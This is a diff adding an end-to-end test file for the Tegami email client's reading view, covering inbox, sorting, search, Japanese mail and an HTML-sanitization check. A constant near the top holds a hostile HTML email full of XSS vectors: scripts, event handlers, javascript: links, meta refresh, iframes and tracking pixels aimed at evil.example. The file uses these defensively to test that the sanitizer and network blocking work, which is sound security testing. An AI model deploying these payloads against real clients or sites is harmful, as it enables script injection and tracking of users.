@@ -1,0 +1,270 @@
+// The reading app end to end: alice's seeded INBOX in browser mode (list, sort, Japanese mail, search,
+// keyboard), and a hostile HTML message (appended to heidi's empty account, which this file owns)
+// that must neither run anything nor make a single network request.
+import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
+import type { Browser, BrowserContext, Page } from 'playwright-core';
+import { baseSubject } from '../../electron/engine/db/messages.js';
+import { connectImap } from '../dovecot/client.js';
+import { launchChromium, screenshot, startTegamiWeb, type TegamiWeb } from './browser.js';
+
+const server = inject('dovecot');
+const alice = server.users.find((u) => u.user === 'alice')!;
+const heidi = server.users.find((u) => u.user === 'heidi')!;
+
+let browser: Browser;
+let tegami: TegamiWeb;
+let context: BrowserContext;
+let page: Page;
+const requests: string[] = [];
+const dialogs: string[] = [];
+const consoleLines: string[] = [];
+let aliceId = 0;
+let heidiId = 0;
+
+const HOSTILE_SUBJECT = 'Hostile newsletter (e2e)';
+const hostileHtml = `<!doctype html><html><head>
+<meta http-equiv="refresh" content="0; url=http://evil.example/refresh">
+<base href="http://evil.example/">
+<link rel="stylesheet" href="http://evil.example/style.css">
+<style>@import url("http://evil.example/import.css"); body { background: url(http://evil.example/bg.png); } .x { color: rgb(200, 0, 0) }</style>
+<script>document.title = 'PWNED'; alert('PWNED-script'); console.log('PWNED-console'); fetch('http://evil.example/fetch');</script>
+</head><body onload="alert('PWNED-onload')">
+<h1 class="x" style="font-size: 30px; background-image: url('http://evil.example/inline-bg.png')">Hostile newsletter body</h1>
+<p>Tracking pixel: <img src="http://evil.example/pixel.gif?u=alice" width="1" height="1"></p>
+<img src="x" onerror="alert('PWNED-onerror')">
+<img srcset="http://evil.example/srcset.png 2x" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">
+<a id="js" href="javascript:alert('PWNED-link')">javascript link</a>
+<a id="ok" href="https://example.com/safe">safe link</a>
+<form action="http://evil.example/form" method="post"><input name="q" autofocus onfocus="alert('PWNED-focus')"><button>Send</button></form>
+<svg><script>alert('PWNED-svg')</script><image href="http://evil.example/svg.png"/></svg>
+<iframe src="http://evil.example/frame"></iframe>
+<object data="http://evil.example/object.swf"></object>
+<video poster="http://evil.example/poster.png" src="http://evil.example/video.mp4"></video>
+<table background="http://evil.example/table.png"><tr><td>cell</td></tr></table>
+<div style="width: expression(alert('PWNED-css'))">expression</div>
+</body></html>`;
+
+function hostileMessage(): string {
+  return [
+    'From: Evil Sender <evil@evil.example>',
+    'To: heidi@tegami.test',
+    `Subject: ${HOSTILE_SUBJECT}`,
+    `Date: ${new Date().toUTCString()}`,
+    'Message-ID: <hostile-e2e@tegami.test>',
+    'MIME-Version: 1.0',
+    'Content-Type: text/html; charset=UTF-8',
+    'Content-Transfer-Encoding: 8bit',
+    '',
+    hostileHtml,
+    '',
+  ].join('\r\n');
+}
+
+async function addAccount(user: { user: string; email: string; password: string }, name: string): Promise<number> {
+  const r = await tegami.engine.invoke('accounts.add', {
+    name,
+    email: user.email,
+    user: user.user,
+    host: server.host,
+    port: server.imapsPort,
+    security: 'tls',
+    password: user.password,
+    trustCertificate: server.certFingerprint256.toUpperCase(),
+  });
+  if (!r.ok) throw new Error(`accounts.add ${user.user}: ${JSON.stringify(r.error)}`);
+  const id = (r.value as { id: number }).id;
+  const s = await tegami.engine.invoke('sync.run', { accountId: id });
+  if (!s.ok) throw new Error(`sync.run: ${JSON.stringify(s.error)}`);
+  return id;
+}
+
+const folder = (accountId: number, p: string) => page.locator(`[role="treeitem"][data-account-id="${accountId}"][data-path="${p}"]`);
+const list = () => page.getByTestId('message-list');
+const rows = () => list().locator('[data-testid="message-row"]');
+const subjects = () => rows().locator('.subject').allInnerTexts();
+const selectedSubject = async () => (await list().locator('[data-testid="message-row"][aria-selected="true"] .subject').allInnerTexts())[0];
+
+beforeAll(async () => {
+  tegami = await startTegamiWeb();
+  // heidi's account is empty and owned by this file: put the hostile message there.
+  const imap = await connectImap(server, 'heidi', 'tls');
+  try {
+    await imap.append('INBOX', hostileMessage(), []);
+  } finally {
+    await imap.logout();
+  }
+  aliceId = await addAccount(alice, 'Alice');
+  heidiId = await addAccount(heidi, 'Heidi');
+
+  browser = await launchChromium();
+  context = await browser.newContext({ viewport: { width: 1400, height: 860 }, locale: 'en-US', colorScheme: 'light' });
+  const origin = new URL(tegami.web.url).origin;
+  // Anything that is not the app itself is recorded and never reaches the network.
+  await context.route('**/*', (route) => {
+    const url = route.request().url();
+    if (url.startsWith(origin)) return route.continue();
+    requests.push(url);
+    return route.abort();
+  });
+  page = await context.newPage();
+  page.on('request', (r) => {
+    if (!r.url().startsWith(origin)) requests.push(r.url());
+  });
+  page.on('dialog', (d) => {
+    dialogs.push(d.message());
+    void d.dismiss();
+  });
+  page.on('console', (m) => consoleLines.push(m.text()));
+  page.on('pageerror', (e) => {
+    throw e;
+  });
+  await page.goto(tegami.web.url);
+});
+
+afterAll(async () => {
+  await browser?.close();
+  await tegami?.close();
+});
+
+describe('reading mail in the browser', () => {
+  it('opens INBOX in three panes and shows a virtualized list', async () => {
+    await expect.poll(() => folder(aliceId, 'INBOX').isVisible(), { timeout: 20_000 }).toBe(true);
+    await folder(aliceId, 'INBOX').click();
+    await expect.poll(() => rows().count(), { timeout: 20_000 }).toBeGreaterThan(10);
+    // The grid's row count is the folder's stored count (header row + messages), once the last page is read.
+    const inbox = (await tegami.engine.invoke('mailboxes.list', { accountId: aliceId })) as {
+      ok: true;
+      value: { mailboxes: { id: number; path: string }[] };
+    };
+    const inboxId = inbox.value.mailboxes.find((m) => m.path === 'INBOX')!.id;
+    let stored = 0;
+    for (let after = null, more = true; more;) {
+      const r = (await tegami.engine.invoke('messages.page', { mailboxId: inboxId, after, limit: 500 })) as {
+        ok: true;
+        value: { messages: unknown[]; next: null };
+      };
+      stored += r.value.messages.length;
+      after = r.value.next;
+      more = after !== null;
+    }
+    expect(stored).toBeGreaterThan(100);
+    await expect.poll(() => list().getAttribute('aria-rowcount')).toBe(String(stored + 1));
+    // Only the visible rows (plus overscan) are in the DOM, not all ~211.
+    expect(await rows().count()).toBeLessThan(80);
+    await expect.poll(() => page.getByTestId('sync-status').first().getAttribute('data-state')).toMatch(/idle|syncing|stopped|connecting/);
+    await screenshot(page, 'reading-inbox-light-en');
+  });
+
+  it('sorts by subject', async () => {
+    await page.locator('[data-sort="subject"]').click();
+    await expect.poll(() => page.locator('[role="columnheader"][aria-sort]').innerText()).toContain('Subject');
+    expect(await page.locator('[role="columnheader"][aria-sort]').getAttribute('aria-sort')).toBe('ascending');
+    await expect
+      .poll(async () => {
+        const s = (await subjects()).slice(0, 15).map(baseSubject);
+        return s.every((x, i) => i === 0 || (s[i - 1] ?? '') <= x);
+      })
+      .toBe(true);
+    // Back to newest first.
+    await page.locator('[data-sort="date"]').click();
+    await expect.poll(() => page.locator('[role="columnheader"][aria-sort]').getAttribute('aria-sort')).toBe('descending');
+  });
+
+  it('moves the selection with j and k', async () => {
+    await rows().first().click();
+    const first = await selectedSubject();
+    await page.keyboard.press('j');
+    await expect.poll(selectedSubject).not.toBe(first);
+    const second = await selectedSubject();
+    await page.keyboard.press('j');
+    await expect.poll(selectedSubject).not.toBe(second);
+    await page.keyboard.press('k');
+    await expect.poll(selectedSubject).toBe(second);
+    expect(await list().locator('[aria-selected="true"]').count()).toBe(1);
+  });
+
+  it('shows the Japanese body of the ISO-2022-JP message', async () => {
+    const row = rows().filter({ hasText: '来週の会議について（ISO-2022-JP）' });
+    await expect.poll(() => row.count(), { timeout: 10_000 }).toBe(1);
+    await row.click();
+    await expect.poll(() => page.getByTestId('reader-subject').innerText()).toBe('来週の会議について（ISO-2022-JP）');
+    await expect
+      .poll(() => page.getByTestId('message-text').innerText(), { timeout: 20_000 })
+      .toContain('来週の会議は水曜日の午後三時からに変更になりました');
+    expect(await page.getByTestId('reader-from').innerText()).toContain('山田 花子');
+    expect(await page.getByTestId('reader-from').locator('[title]').getAttribute('title')).toContain('yamada@example.jp');
+  });
+
+  it('shows the HTML newsletter without loading its tracking pixel', async () => {
+    const before = requests.length;
+    await rows().filter({ hasText: 'Weekly newsletter: text and HTML' }).click();
+    const frame = page.frameLocator('[data-testid="html-frame"]');
+    await expect.poll(() => frame.locator('h1').innerText(), { timeout: 20_000 }).toBe('This week in Tegami');
+    expect(await page.getByTestId('html-frame').getAttribute('sandbox')).toBe('allow-same-origin');
+    await expect.poll(() => page.getByTestId('remote-bar').innerText()).toMatch(/Remote content blocked/);
+    expect(requests.slice(before)).toEqual([]);
+  });
+
+  it('finds the Japanese message when searching for 会議', async () => {
+    await page.keyboard.press('/');
+    await expect.poll(() => page.evaluate('document.activeElement?.getAttribute("data-testid")')).toBe('search-input');
+    await page.keyboard.type('会議');
+    const results = page.getByTestId('search-results');
+    await expect.poll(() => results.innerText(), { timeout: 10_000 }).toContain('来週の会議について（ISO-2022-JP）');
+    await screenshot(page, 'reading-search-en');
+    await page.getByTestId('search-input').press('Escape');
+    await expect.poll(() => list().isVisible()).toBe(true);
+  });
+
+  it('takes screenshots in dark mode and in Japanese', async () => {
+    await page.emulateMedia({ colorScheme: 'dark' });
+    await rows().filter({ hasText: '来週の会議について（ISO-2022-JP）' }).click();
+    await expect.poll(() => page.getByTestId('message-text').isVisible()).toBe(true);
+    await screenshot(page, 'reading-inbox-dark-en');
+    await page.getByTestId('settings-button').click();
+    await page.getByTestId('language-select').selectOption('ja');
+    await page.getByTestId('settings-button').click();
+    await expect.poll(() => page.locator('[data-sort="subject"]').innerText()).toBe('件名');
+    await screenshot(page, 'reading-inbox-dark-ja');
+    await page.emulateMedia({ colorScheme: 'light' });
+    await screenshot(page, 'reading-inbox-light-ja');
+    await page.getByTestId('settings-button').click();
+    await page.getByTestId('language-select').selectOption('en');
+    await page.getByTestId('settings-button').click();
+  });
+
+  it('shows hostile HTML with no script, no dialog and no network request', async () => {
+    await expect.poll(() => folder(heidiId, 'INBOX').isVisible(), { timeout: 20_000 }).toBe(true);
+    const before = requests.length;
+    const consoleBefore = consoleLines.length;
+    await folder(heidiId, 'INBOX').click();
+    await rows().filter({ hasText: HOSTILE_SUBJECT }).click();
+    const frameEl = page.getByTestId('html-frame');
+    const frame = page.frameLocator('[data-testid="html-frame"]');
+    await expect.poll(() => frame.locator('h1').innerText(), { timeout: 20_000 }).toBe('Hostile newsletter body');
+    // Styles from the mail apply (through the CSSOM), remote references in them do not.
+    await expect.poll(() => frame.locator('h1').evaluate((h) => h.ownerDocument.defaultView?.getComputedStyle(h).fontSize)).toBe('30px');
+    expect(await frame.locator('h1').evaluate((h) => h.ownerDocument.defaultView?.getComputedStyle(h).color)).toBe('rgb(200, 0, 0)');
+    expect(await frameEl.getAttribute('sandbox')).not.toContain('allow-scripts');
+    // Nothing dangerous survived sanitizing.
+    const dom = await frame.locator('html').evaluate((html) => ({
+      scripts: html.querySelectorAll('script').length,
+      forms: html.querySelectorAll('form, input, button').length,
+      frames: html.querySelectorAll('iframe, object, embed, video, svg').length,
+      meta: html.querySelectorAll('meta[http-equiv="refresh"], base, link').length,
+      handlers: [...html.querySelectorAll('*')].flatMap((e) => [...e.attributes].map((a) => a.name)).filter((n) => n.startsWith('on'))
+        .length,
+      jsLinks: [...html.querySelectorAll('a')].filter((a) => /javascript:/i.test(a.getAttribute('href') ?? '')).length,
+      remote: /evil\.example/.test(html.outerHTML.replace(/data-tegami-remote="[^"]*"/g, '')),
+    }));
+    expect(dom).toEqual({ scripts: 0, forms: 0, frames: 0, meta: 0, handlers: 0, jsLinks: 0, remote: false });
+    await expect.poll(() => page.getByTestId('remote-bar').innerText()).toMatch(/Remote content blocked/);
+    // Give anything that might fire (refresh, onerror, lazy images) time to do so.
+    await page.waitForTimeout(1500);
+    expect(requests.slice(before)).toEqual([]);
+    expect(dialogs).toEqual([]);
+    expect(consoleLines.slice(consoleBefore).filter((l) => /PWNED|evil\.example/.test(l))).toEqual([]);
+    expect(await page.title()).toBe('Tegami');
+    await screenshot(page, 'reading-hostile-html');
+  });
+});
